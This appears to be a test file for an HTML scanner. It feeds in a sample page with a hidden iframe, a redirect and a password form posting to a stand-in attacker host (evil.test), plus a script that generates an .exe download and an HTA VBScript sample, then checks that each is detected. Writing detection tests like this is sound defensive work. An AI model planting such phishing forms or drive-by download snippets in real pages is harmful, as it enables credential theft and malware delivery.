import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detailsOf, lookInto } from '../test-kit.ts';
import { tagsOf } from './markup.ts';

const page = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=http://evil.test/next">
<script src="https://cdn.test/a.js"></script>
<SCRIPT>document.write(unescape("%3Cimg%20src%3Dx%3E")); var b = new Blob([a]); x.download = "a.exe"; "<a>"</SCRIPT>
</head><body onload="go()">
<iframe src=http://evil.test/frame width="1" height="1"></iframe>
<iframe src='ok.html'></iframe>
<form action="https://evil.test/login" method=POST><input type=password name=p></form>
<object classid="clsid:1"></object><a href="javascript:alert(1)">x</a><img src="data:image/png;base64,AA==">
</body></html>`;

test('a page tells what it runs, loads, asks for and where it leads', async () => {
  const html = detailsOf(await lookInto('html', page), 'html');
  assert.deepEqual(html.scripts, { inline: 1, sources: ['https://cdn.test/a.js'] });
  assert.deepEqual(html.frames, [
    { source: 'http://evil.test/frame', hidden: true },
    { source: 'ok.html', hidden: false },
  ]);
  assert.deepEqual(html.forms, [
    { action: 'https://evil.test/login', method: 'post', asksForPassword: true },
  ]);
  assert.deepEqual(html.refresh, ['http://evil.test/next']);
  assert.deepEqual(html.objects, ['clsid:1']);
  assert.deepEqual(html.handlers, ['onload']);
  assert.equal(html.dataAddresses, 1);
  assert(html.layers.some(({ text }) => text.includes('<img src=x>')));
  assert(html.suspicious.some(({ why }) => why === 'makes a file up and saves it'));
});

test('an application of mshta is told, in UTF-16 too', async () => {
  const hta =
    '<html><hta:application id="x"><script language="VBScript">x = Chr(65) & "b"</script></html>';
  for (const bytes of [Buffer.from(hta), Buffer.from(`\ufeff${hta}`, 'utf16le')]) {
    const html = detailsOf(await lookInto('html', bytes), 'html');
    assert.equal(html.application, true);
    assert.match(html.layers[0]?.text ?? '', /"Ab"/);
  }
});

test('tags are read in linear time whatever is left open', () => {
  for (const text of ['<a ="'.repeat(100_000), '<a b="\'>'.repeat(100_000), '<'.repeat(300_000)]) {
    const start = performance.now();
    assert([...tagsOf(text)].length >= 0);
    assert(performance.now() - start < 5_000);
  }
});
